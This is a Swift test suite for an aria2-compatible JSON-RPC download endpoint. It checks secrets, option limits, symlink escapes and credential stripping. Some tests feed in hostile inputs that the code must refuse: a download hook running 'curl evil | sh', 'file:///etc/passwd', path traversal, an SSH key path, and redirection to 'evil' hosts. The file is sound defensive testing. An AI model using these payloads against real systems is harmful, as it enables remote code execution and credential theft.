import Foundation
import HaulCore
import HaulTestSupport
import Testing

@testable import HaulRPC

/// aria2's methods on a real queue, through the endpoint a request goes through: paused
/// downloads, so nothing is fetched.
@Suite("RPC endpoint")
struct RPCEndpointTests {
    let directory: URL
    let queue: DownloadQueue
    let endpoint: RPCEndpoint

    init() throws {
        directory = try ScratchDirectory.make("rpc-endpoint")
        var configuration = DownloadQueue.Configuration()
        configuration.directory = directory.path
        queue = DownloadQueue(configuration: configuration) { _ in }
        let settings = Aria2Methods.Settings(allowedDirectory: AllowedDirectory(directory.path), version: "0.1.0")
        endpoint = RPCEndpoint(
            methods: Aria2Methods(queue: queue, settings: settings), secretGuard: SecretGuard(secret: "s"))
    }

    /// The reply to `method` with `params` (the secret put first unless `token` is nil).
    func call(_ method: String, _ params: [JSONValue] = [], token: String? = "token:s") -> JSONValue {
        let all = (token.map { [JSONValue.string($0)] } ?? []) + params
        return endpoint.reply(
            to: ["jsonrpc": "2.0", "id": "q", "method": .string(method), "params": .array(all)], from: "t")
    }

    func result(_ method: String, _ params: [JSONValue] = []) -> JSONValue? {
        call(method, params).object?["result"]
    }

    func errorCode(_ reply: JSONValue) -> Int? {
        reply.object?["error"]?.object?["code"]?.integer
    }

    func add(_ uri: String, _ options: JSONValue = ["pause": "true"]) throws -> String {
        try #require(result("aria2.addUri", [[.string(uri)], options])?.string)
    }

    @Test(
        "requests that cannot be read get aria2's codes, with the id when it was readable",
        arguments: [
            ("{", -32700), ("[]", -32600), ("42", -32600), ("{\"id\":1}", -32600),
            ("{\"id\":1,\"method\":\"aria2.nothing\",\"params\":[\"token:s\"]}", 1),
            ("{\"id\":1,\"method\":\"aria2.tellStatus\",\"params\":\"x\"}", -32602),
            ("{\"id\":1,\"method\":\"aria2.tellStatus\",\"params\":[\"token:s\"]}", 1),
        ])
    func unreadable(text: String, code: Int) throws {
        let reply = try #require(JSONValue.parse(endpoint.reply(to: Data(text.utf8), from: "t")))
        #expect(errorCode(reply) == code, "\(reply)")
    }

    @Test("positions at Int64's bounds are clamped, not overflowed: changePosition and addMetalink")
    func extremePositions() throws {
        let first = try add("http://127.0.0.1:9/a")
        let second = try add("http://127.0.0.1:9/b")
        for how in ["POS_SET", "POS_CUR", "POS_END"] {
            for position in [JSONValue.int(.max), .int(.min), .string("9223372036854775807"), .double(1e300)] {
                let reply = call("aria2.changePosition", [.string(first), position, .string(how)])
                #expect(reply.object?["result"] != nil || errorCode(reply) != nil, "\(how) \(position)")
            }
        }
        #expect(result("aria2.changePosition", [.string(second), .int(.max), "POS_CUR"]) == 1)
        let document = """
            <?xml version="1.0" encoding="UTF-8"?>
            <metalink xmlns="urn:ietf:params:xml:ns:metalink">
              <file name="m1.bin"><url>http://127.0.0.1:9/m1.bin</url></file>
              <file name="m2.bin"><url>http://127.0.0.1:9/m2.bin</url></file>
            </metalink>
            """
        let encoded = JSONValue.string(Data(document.utf8).base64EncodedString())
        let ids = try #require(result("aria2.addMetalink", [encoded, ["pause": "true"], .int(.max)])?.array)
        #expect(ids.count == 2)
        #expect(queue.ids(in: [.queued, .paused]).count == 4)
    }

    /// Waits up to 10 s for download `gid` to end, and returns it.
    func ended(_ gid: String) async throws -> Download {
        let id = try #require(GID(gid))
        for _ in 0..<200 {
            if let download = queue.download(id), download.state.isFinal { return download }
            try await Task.sleep(for: .milliseconds(50))
        }
        return try #require(queue.download(id))
    }

    @Test("a client's out through a link, or a dir swapped for a link while paused, is refused when written")
    func namesCheckedWhenWritten() async throws {
        let server = try FaultServer.shared()
        let outside = try ScratchDirectory.make("rpc-outside")
        defer { try? FileManager.default.removeItem(at: outside) }
        let victim = outside.appendingPathComponent("victim.txt")
        try Data("precious".utf8).write(to: victim)
        try FileManager.default.createSymbolicLink(
            at: directory.appendingPathComponent("music"), withDestinationURL: outside)
        let through = try add(
            server.url("/bytes/100").absoluteString,
            ["out": "music/victim.txt", "split": "1"])
        let refused = try await ended(through)
        #expect(refused.state == .failed)
        #expect(refused.lastError?.contains("symbolic link") == true, "\(refused.lastError ?? "")")
        #expect(try Data(contentsOf: victim) == Data("precious".utf8))

        // Added while `later` is a real folder, paused; the folder is then swapped for a link.
        let later = directory.appendingPathComponent("later")
        try FileManager.default.createDirectory(at: later, withIntermediateDirectories: true)
        let paused = try add(server.url("/bytes/100").absoluteString, ["dir": "later", "pause": "true"])
        try FileManager.default.removeItem(at: later)
        try FileManager.default.createSymbolicLink(at: later, withDestinationURL: outside)
        #expect(result("aria2.unpause", [.string(paused)]) == .string(paused))
        #expect(try await ended(paused).state == .failed)
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside.path) == ["victim.txt"])

        // A plain folder below the root, made as the file is opened, is fine; so is a dotless name.
        let fine = try add(server.url("/bytes/100").absoluteString, ["dir": "a/b", "out": "c/d.bin"])
        #expect(try await ended(fine).state == .complete)
        #expect(FileManager.default.fileExists(atPath: directory.appendingPathComponent("a/b/c/d.bin").path))
    }

    @Test("a gid a client chooses never collides: one in use is refused, and the next gid guessed is not handed out")
    func chosenGIDs() throws {
        let first = try add("http://127.0.0.1:9/first")
        let taken = call("aria2.addUri", [["http://127.0.0.1:9/x"], ["gid": .string(first), "pause": "true"]])
        #expect(taken.object?["error"]?.object?["message"]?.string?.contains("in use") == true, "\(taken)")
        // The gids counted up from the first: a client takes the next ones before the queue does.
        let number = try #require(UInt64(first, radix: 16))
        var guessed: [String] = []
        for offset in 1...3 {
            let gid = String(format: "%016llx", number + UInt64(offset))
            guessed.append(try add("http://127.0.0.1:9/attacker.bin", ["gid": .string(gid), "pause": "true"]))
        }
        let mine = try add("http://127.0.0.1:9/mine.bin")
        #expect(!guessed.contains(mine))
        let status = try #require(result("aria2.tellStatus", [.string(mine)])?.object)
        let uri = status["files"]?.array?.first?.object?["uris"]?.array?.first?.object?["uri"]
        #expect(uri == "http://127.0.0.1:9/mine.bin")
        #expect(Set(queue.ids.map(\.description)).count == queue.ids.count)
    }

    @Test("a wrong or missing secret is refused; listMethods needs none; a batch answers each call")
    func secrets() throws {
        #expect(
            call("aria2.getGlobalStat", token: "token:wrong").object?["error"]?.object?["message"] == "Unauthorized")
        #expect(call("aria2.getGlobalStat", token: nil).object?["error"] != nil)
        #expect(call("system.listMethods", token: nil).object?["result"]?.array?.contains("aria2.addUri") == true)
        let batch = endpoint.reply(
            to: .array([
                ["id": 1, "method": "aria2.getVersion", "params": ["token:s"]],
                ["id": 2, "method": "aria2.getVersion", "params": []],
            ]), from: "t")
        let replies = try #require(batch.array)
        #expect(replies.count == 2)
        #expect(replies[0].object?["result"]?.object?["version"] == "0.1.0")
        #expect(errorCode(replies[1]) == 1)
    }

    @Test("system.multicall checks each call's own secret and answers each in place")
    func multicall() throws {
        _ = try add("http://127.0.0.1:9/a.bin")
        let calls: JSONValue = [
            ["methodName": "aria2.getGlobalStat", "params": ["token:s"]],
            ["methodName": "aria2.getGlobalStat", "params": ["token:bad"]],
            ["methodName": "aria2.tellStatus", "params": ["token:s", "0123456789abcdef"]],
            ["methodName": "system.multicall", "params": [[]]],
        ]
        let results = try #require(call("system.multicall", [calls], token: nil).object?["result"]?.array)
        #expect(results[0].array?.first?.object?["numWaiting"] == "1")
        #expect(results[1].object?["message"] == "Unauthorized")
        #expect(results[2].object?["message"] == "GID 0123456789abcdef is not found")
        #expect(results[3].object?["message"] == "Recursive system.multicall forbidden.")
    }

    @Test("addUri queues a download whose status has the fields aria2's clients read")
    func addAndTell() throws {
        let gid = try add("http://user:pw@127.0.0.1:9/dir/file.iso", ["pause": "true", "out": "renamed.iso"])
        let status = try #require(result("aria2.tellStatus", [.string(gid)])?.object)
        #expect(status["gid"] == .string(gid))
        #expect(status["status"] == "paused")
        #expect(status["totalLength"] == "0")
        #expect(status["completedLength"] == "0")
        #expect(status["dir"] == .string(directory.path))
        let file = try #require(status["files"]?.array?.first?.object)
        #expect(file["path"] == .string(directory.path + "/renamed.iso"))
        // The password never leaves the daemon.
        #expect(file["uris"]?.array?.first?.object?["uri"] == "http://user:***@127.0.0.1:9/dir/file.iso")
        let some = try #require(result("aria2.tellStatus", [.string(gid), ["gid", "status"]])?.object)
        #expect(Set(some.keys) == ["gid", "status"])
        #expect(errorCode(call("aria2.tellStatus", ["ffffffffffffffff"])) == 1)
    }

    @Test(
        "addUri refuses what it cannot take, naming it",
        arguments: [
            ([["file:///etc/passwd"]], "unsupported scheme"),
            ([[]], "uris"),
            ([["http://h/a"], ["dir": "/etc"]], "outside the directory"),
            ([["http://h/a"], ["out": "../../x"]], "plain relative"),
            ([["http://h/a"], ["split": "many"]], "split"),
            ([["sftp://h/a"], ["ssh-private-key": "/root/.ssh/id_ed25519"]], "it names a file on this machine"),
            (
                [["http://h/a"], ["all-proxy": "http://evil:8080"]],
                "all-proxy=http://evil:8080 is not taken from a net"
            ),
            ([["https://h/a"], ["check-certificate": "false"]], "it weakens the check of who answers"),
            ([["http://h/a"], ["allow-overwrite": "true"]], "it can replace a file that is there"),
            ([["http://h/a"], ["continue": "true"]], "continue=true is not taken from a network RPC client"),
        ] as [([JSONValue], String)])
    func refusedAdds(params: [JSONValue], why: String) throws {
        let reply = call("aria2.addUri", params)
        let message = try #require(reply.object?["error"]?.object?["message"]?.string, "\(reply)")
        #expect(message.contains(why), "\(message)")
        #expect(queue.count == 0)
    }

    @Test("pause, unpause, remove and the results of stopped downloads, as aria2p calls them")
    func lifecycle() throws {
        let gid = try add("http://127.0.0.1:9/x")
        #expect(errorCode(call("aria2.unpause", [.string(gid)])) == nil)
        #expect(queue.download(text: gid)?.state != .paused)
        #expect(result("aria2.pause", [.string(gid)]) == .string(gid))
        #expect(queue.download(text: gid)?.state == .paused)
        #expect(result("aria2.remove", [.string(gid)]) == .string(gid))
        #expect(result("aria2.tellStatus", [.string(gid), ["status"]]) == ["status": "removed"])
        #expect(result("aria2.tellStopped", [0, 10, ["gid"]]) == [["gid": .string(gid)]])
        #expect(errorCode(call("aria2.remove", [.string(gid)])) == 1)
        #expect(result("aria2.removeDownloadResult", [.string(gid)]) == "OK")
        #expect(queue.download(text: gid) == nil)
    }

    @Test("tellWaiting pages the waiting downloads; a negative offset counts back from the last")
    func waitingPages() throws {
        let gids = try (0..<4).map { try add("http://127.0.0.1:9/\($0)") }
        func page(_ offset: Int, _ count: Int) -> [String] {
            result("aria2.tellWaiting", [.int(Int64(offset)), .int(Int64(count)), ["gid"]])?.array?
                .compactMap { $0.object?["gid"]?.string } ?? []
        }
        #expect(page(0, 2) == [gids[0], gids[1]])
        #expect(page(3, 5) == [gids[3]])
        #expect(page(9, 1) == [])
        #expect(page(-1, 2) == [gids[3], gids[2]])
        #expect(page(-4, 9) == [gids[0]])
        #expect(page(-5, 1) == [])
    }

    @Test("changePosition moves a waiting download among the waiting ones and says where it went")
    func positions() throws {
        let gids = try (0..<4).map { try add("http://127.0.0.1:9/\($0)") }
        #expect(result("aria2.changePosition", [.string(gids[3]), 0, "POS_SET"]) == .int(0))
        #expect(queue.ids.map(\.description) == [gids[3], gids[0], gids[1], gids[2]])
        #expect(result("aria2.changePosition", [.string(gids[3]), 2, "POS_CUR"]) == .int(2))
        #expect(queue.ids.map(\.description) == [gids[0], gids[1], gids[3], gids[2]])
        #expect(result("aria2.changePosition", [.string(gids[0]), -9, "POS_END"]) == .int(0))
        #expect(result("aria2.changePosition", [.string(gids[0]), 0, "POS_END"]) == .int(3))
        #expect(queue.ids.last?.description == gids[0])
        #expect(errorCode(call("aria2.changePosition", [.string(gids[0]), 0, "POS_WHERE"])) == 1)
    }

    @Test("the window of a list, from the front and from the back")
    func windows() {
        let list = [1, 2, 3, 4, 5]
        #expect(Aria2Methods.window(of: list, offset: 1, count: 2) == [2, 3])
        #expect(Aria2Methods.window(of: list, offset: 0, count: Int.max) == list)
        #expect(Aria2Methods.window(of: list, offset: -2, count: 10) == [4, 3, 2, 1])
        #expect(Aria2Methods.window(of: list, offset: -1, count: 0) == [])
        #expect(Aria2Methods.window(of: list, offset: Int.min, count: 1) == [])
    }

    @Test("options: the global ones, a download's own, and the speed caps that change live")
    func options() throws {
        let gid = try add("http://127.0.0.1:9/o", ["pause": "true", "http-passwd": "hidden", "http-user": "me"])
        let own = try #require(result("aria2.getOption", [.string(gid)])?.object)
        #expect(own["http-user"] == "me")
        #expect(own["http-passwd"] == nil)
        #expect(result("aria2.changeOption", [.string(gid), ["max-download-limit": "100K"]]) == "OK")
        #expect(queue.download(text: gid)?.options.maxDownloadLimit?.cap == 102_400)
        #expect(result("aria2.changeOption", [.string(gid), ["split": "4", "file-allocation": "none"]]) == "OK")
        #expect(queue.download(text: gid)?.options.split == 4)
        #expect(errorCode(call("aria2.changeOption", [.string(gid), ["split": "many"]])) == 1)
        // Each option changes as the table says: the gid never (passed over, as aria2 does).
        #expect(result("aria2.changeOption", [.string(gid), ["gid": "00000000000000ab"]]) == "OK")
        #expect(queue.download(text: gid) != nil && queue.download(text: "00000000000000ab") == nil)
        #expect(result("aria2.changeGlobalOption", [["max-overall-download-limit": "1M"]]) == "OK")
        #expect(result("aria2.getGlobalOption")?.object?["max-overall-download-limit"] == "1048576")
    }

    @Test(
        "every option from a network client: taken exactly where the table's column allows it",
        arguments: DownloadOptionTable.all.filter { !["dir", "out"].contains($0.name) })
    func everyOption(_ option: DownloadOption) throws {
        let sample = try #require(OptionSamples.values[option.name], "no sample for \(option.name)")
        var options: [String: JSONValue] = ["pause": "true"]
        options[option.name] = .string(sample)
        let reply = call("aria2.addUri", [["http://127.0.0.1:9/a"], .object(options)])
        let taken = reply.object?["result"]?.string != nil
        #expect(taken == (option.settableBy >= .networkClient || option.builtIn == sample), "\(option.name): \(reply)")
        if !taken {
            let message = reply.object?["error"]?.object?["message"]?.string ?? ""
            #expect(message.hasPrefix("\(option.name)=") && message.contains("is not taken from a network RPC client"))
        }
    }

    @Test("a network client cannot send the owner's download, or its credentials, elsewhere")
    func ownersCredentialsStay() throws {
        var owners = DownloadOptions()
        for (name, value) in [
            ("pause", "true"), ("header", "Authorization: Bearer owner-token"), ("header", "X-Trace: 1"),
            ("http-user", "ann"), ("http-passwd", "pw"),
        ] {
            try owners.set(name, value)
        }
        let id = queue.add(QueueEntry(uris: ["https://127.0.0.1:9/private"], options: owners))
        let gid = id.description
        for change in [["all-proxy": "http://evil:8080"], ["check-certificate": "false"], ["no-proxy": "*"]]
            as [JSONValue]
        {
            #expect(errorCode(call("aria2.changeOption", [.string(gid), change])) == 1, "\(change)")
            #expect(errorCode(call("aria2.changeGlobalOption", [change])) == 1, "\(change)")
        }
        #expect(queue.download(id)?.options.allProxy == nil)
        #expect(queue.download(id)?.options.headers.count == 2)
        #expect(result("aria2.changeUri", [.string(gid), 1, [], ["http://evil.example/collect"]]) == [0, 1])
        let changed = try #require(queue.download(id))
        #expect(changed.options.headers == ["X-Trace: 1"] && changed.options.httpUser == nil)
        #expect(changed.options.httpPasswd == nil && changed.options.source == .networkClient)
    }

    @Test("changeUri takes mirrors off and puts new ones where asked, counting as aria2 counts")
    func changeUri() throws {
        let gid = try add("http://127.0.0.1:9/a")
        #expect(result("aria2.changeUri", [.string(gid), 1, [], ["http://127.0.0.1:9/b"]]) == [0, 1])
        let changed = result(
            "aria2.changeUri",
            [
                .string(gid), 1, ["http://127.0.0.1:9/a", "http://h/none"],
                ["http://127.0.0.1:9/c", "file:///etc/passwd"], 0,
            ])
        #expect(changed == [1, 1])
        #expect(queue.download(text: gid).map { Array($0.uris) } == ["http://127.0.0.1:9/c", "http://127.0.0.1:9/b"])
        #expect(errorCode(call("aria2.changeUri", [.string(gid), 2, [], []])) == 1)
        let emptied = call("aria2.changeUri", [.string(gid), 1, ["http://127.0.0.1:9/c", "http://127.0.0.1:9/b"], []])
        #expect(errorCode(emptied) == 1, "\(emptied)")
    }

    @Test(
        "every aria2 option name is taken: one haul implements is set, another ignored; only a bad value, or one a client may not set, is refused"
    )
    func aria2Options() throws {
        let gid = try add(
            "http://127.0.0.1:9/a",
            ["pause": "true", "file-allocation": "none", "split": "3", "bt-max-peers": "5", "not-aria2s": "1"])
        #expect(queue.download(text: gid)?.options.split == 3)
        // AriaNg's retry: addUri with the whole getOption result.
        let own = try #require(result("aria2.getOption", [.string(gid)]))
        #expect(own.object?["max-concurrent-downloads"] == nil && own.object?["rpc-listen-port"] == nil)
        let again = call("aria2.addUri", [["http://127.0.0.1:9/a"], own])
        #expect(again.object?["result"]?.string != nil, "\(again)")
        // Settings pages: a download's options become the defaults of downloads added later.
        let global: JSONValue = [
            "max-concurrent-downloads": "3", "split": "7", "user-agent": "ua/1", "max-tries": "4", "continue": "false",
            "max-connection-per-server": "4", "retry-wait": "2", "min-split-size": "2M", "allow-overwrite": "false",
            "max-overall-upload-limit": "0", "file-allocation": "falloc", "dir": "later", "out": "ignored.bin",
        ]
        #expect(result("aria2.changeGlobalOption", [global]) == "OK")
        let later = try add("http://127.0.0.1:9/b")
        #expect(queue.download(text: later)?.options.split == 7)
        #expect(queue.download(text: later)?.options.userAgent == "ua/1")
        #expect(queue.download(text: later)?.directory == directory.appendingPathComponent("later").path)
        #expect(queue.download(text: later)?.options.out == nil)
        #expect(errorCode(call("aria2.changeGlobalOption", [["dir": "/etc"]])) == 1)
        #expect(result("aria2.getGlobalOption")?.object?["split"] == "7")
        #expect(errorCode(call("aria2.changeGlobalOption", [["split": "0"]])) == 1)
        #expect(errorCode(call("aria2.addUri", [["http://127.0.0.1:9/c"], ["split": "many"]])) == 1)
    }

    @Test("addMetalink queues a paused download for each file, in the allowed directory; a bad document is refused")
    func addMetalink() throws {
        let document = """
            <metalink xmlns="urn:ietf:params:xml:ns:metalink">
            <file name="a.iso">
            <url priority="2">http://127.0.0.1:9/a</url><url priority="1">http://127.0.0.1:9/b</url>
            </file>
            <file name="sub/c.iso"><url>http://127.0.0.1:9/c</url></file>
            </metalink>
            """
        let gids = try #require(
            result("aria2.addMetalink", [.string(Data(document.utf8).base64EncodedString()), ["pause": "true"]])?.array)
        #expect(gids.count == 2)
        let first = try #require(gids.first?.string.flatMap { queue.download(text: $0) })
        #expect(first.uris.first == "http://127.0.0.1:9/b" && first.options.out == "a.iso" && first.state == .paused)
        #expect(first.options.dir == directory.path)
        #expect(errorCode(call("aria2.addMetalink", [.string("not base64!")])) == 1)
        let html = Data("<html/>".utf8).base64EncodedString()
        #expect("\(call("aria2.addMetalink", [.string(html)]))".contains("is not a Metalink"))
        #expect(errorCode(call("aria2.addTorrent", [.string(html)])) == 1)
    }

    @Test("a hook is refused from an RPC client, in every call that takes options: it would run as the daemon's user")
    func hooksRefused() throws {
        let gid = try add("http://127.0.0.1:9/h", ["pause": "true"])
        let calls: [(String, [JSONValue])] = [
            ("aria2.addUri", [["http://127.0.0.1:9/x"], ["on-download-complete": "/bin/sh -c 'curl evil | sh'"]]),
            ("aria2.changeOption", [.string(gid), ["on-download-start": "/tmp/x"]]),
            ("aria2.changeGlobalOption", [["on-download-error": "/tmp/x"]]),
        ]
        for (method, params) in calls {
            let response = call(method, params)
            #expect(errorCode(response) == 1, "\(method)")
            #expect("\(response)".contains("runs a command as you"), "\(method): \(response)")
        }
        #expect(queue.count(in: [.queued, .paused]) == 1, "nothing was added")
    }

    @Test(
        "a change of state makes aria2's notification",
        arguments: [
            (Download.State.queued, Download.State.active, "aria2.onDownloadStart"),
            (.active, .paused, "aria2.onDownloadPause"), (.active, .cancelled, "aria2.onDownloadStop"),
            (.active, .complete, "aria2.onDownloadComplete"), (.active, .failed, "aria2.onDownloadError"),
            (.paused, .queued, nil), (.active, .active, nil),
        ] as [(Download.State, Download.State, String?)])
    func notifications(from: Download.State, to: Download.State, method: String?) {
        var download = Download(id: GID(0xaa) ?? .next(), uris: ["http://h/a"])
        download.state = to
        let notification = Aria2Notification(.stateChanged(download, from: from))
        #expect(notification?.kind.method == method)
        if method != nil {
            #expect(notification?.json.object?["params"] == [["gid": "00000000000000aa"]])
        }
    }

    @Test("the user's own client (the local socket, allowed all of /) saves where the queue does, not in /")
    func ownerSavesInTheQueuesDirectory() throws {
        var settings = Aria2Methods.Settings(allowedDirectory: AllowedDirectory("/"), version: "0.1.0")
        settings.clientIsOwner = true
        let local = RPCEndpoint(
            methods: Aria2Methods(queue: queue, settings: settings), secretGuard: SecretGuard(secret: nil))
        let reply = local.reply(
            to: [
                "jsonrpc": "2.0", "id": "q", "method": "aria2.addUri",
                "params": [["http://127.0.0.1:9/a.bin"], ["pause": "true"]],
            ], from: "t")
        let gid = try #require(reply.object?["result"]?.string.flatMap(GID.init))
        #expect(queue.download(gid)?.directory == directory.path)
    }

    @Test("a torrent that starts seeding makes aria2's onBtDownloadComplete; its other activity none")
    func seedingNotification() {
        let id = GID(0xab) ?? .next()
        let notification = Aria2Notification(.activity(id: id, .seedingStarted))
        #expect(notification?.kind.method == "aria2.onBtDownloadComplete")
        #expect(notification?.json.object?["params"] == [["gid": "00000000000000ab"]])
        #expect(Aria2Notification(.activity(id: id, .torrent(TorrentActivity(seeding: true)))) == nil)
    }

    @Test("a peer id is percent-encoded as aria2 encodes it: all but letters and digits")
    func peerID() {
        let id = Array("A2-1-36-0-".utf8) + [0xDC, 0x2E, 0x47, 0xF9, 0x7E, 0x5F]
        #expect(Aria2Status.percentEncoded(id) == "A2%2D1%2D36%2D0%2D%DC%2EG%F9%7E%5F")
    }
}

extension DownloadQueue {
    /// The download whose gid the text `gid` spells, as a client names it.
    fileprivate func download(text gid: String) -> Download? { GID(gid).flatMap { download($0) } }
}
